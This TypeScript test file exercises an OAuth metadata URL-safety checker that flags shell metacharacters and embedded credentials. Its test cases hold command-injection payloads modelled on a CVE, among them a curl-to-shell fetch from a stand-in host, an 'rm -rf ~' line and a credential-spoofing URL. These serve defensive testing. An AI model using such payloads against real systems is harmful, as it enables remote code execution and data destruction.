import { describe, expect, it } from 'vitest';
import { oauthFinding, type Finding } from './findings';
import { checkMetadataUrls, hasCredentials, shellMetacharacters } from './url-safety';

describe('shellMetacharacters', () => {
  it.each<[string, string[]]>([
    // CVE-2025-6514's payloads (mcp-remote): Windows and POSIX shells.
    ['a:$(cmd.exe /c whoami > c:\\temp\\pwned.txt)', ['$(']],
    ['https://as.test/authorize?x=`id`', ['`']],
    ['https://as.test/authorize;curl evil.test|sh', [';', '|']],
    ['https://as.test/a&calc.exe', ['&']],
    ['https://as.test/authorize?client=1&calc', ['&']],
    ['https://as.test/authorize\nrm -rf ~', ['\n']],
    ['https://as.test/${IFS}', ['${']],
    // Honest URLs: a query's & separates name=value pairs; $ alone is a character.
    ['https://as.test/authorize', []],
    ['https://as.test/authorize?audience=api&prompt=consent', []],
    ['https://login.microsoftonline.com/common/oauth2/v2.0/authorize', []],
    ['https://as.test/price$1', []],
  ])('%j', (url, expected) => {
    expect(shellMetacharacters(url)).toEqual(expected);
  });
});

describe('hasCredentials', () => {
  it.each<[string, boolean]>([
    ['https://user:pass@as.test/token', true],
    ['https://trusted.test@evil.test/authorize', true],
    ['https://as.test/token', false],
    ['https://as.test/users/@me', false],
  ])('%s', (url, expected) => {
    expect(hasCredentials(url)).toBe(expected);
  });
});

describe('checkMetadataUrls', () => {
  const run = (doc: Record<string, unknown>): Finding[] => {
    const findings: Finding[] = [];
    checkMetadataUrls('https://as.test', doc, (id, message, severity) =>
      findings.push(oauthFinding(id, message, severity)),
    );
    return findings;
  };

  it('names the key, the characters and the URL (escaped), critical', () => {
    const [finding] = run({ authorization_endpoint: 'a:$(calc)' });
    expect(finding?.id).toBe('metadata-url-shell');
    expect(finding?.severity).toBe('critical');
    expect(finding?.message).toContain('authorization_endpoint of https://as.test');
    expect(finding?.message).toContain('"a:$(calc)"');
  });

  it('reads the authorization servers a resource names', () => {
    expect(run({ authorization_servers: ['https://ok.test', 'https://x.test/`id`'] }).map((f) => f.message)).toEqual([
      expect.stringContaining('authorization_servers[1]'),
    ]);
  });

  it('never shows the credentials', () => {
    const [finding] = run({ token_endpoint: 'https://admin:hunter2@as.test/token' });
    expect(finding?.id).toBe('metadata-url-credentials');
    expect(finding?.message).not.toContain('hunter2');
    expect(finding?.message).not.toContain('admin');
  });

  it('stays quiet on honest metadata', () => {
    expect(
      run({
        issuer: 'https://as.test',
        authorization_endpoint: 'https://as.test/authorize?audience=api&prompt=consent',
        token_endpoint: 'https://as.test/token',
        scopes_supported: ['a;b'],
      }),
    ).toEqual([]);
  });
});
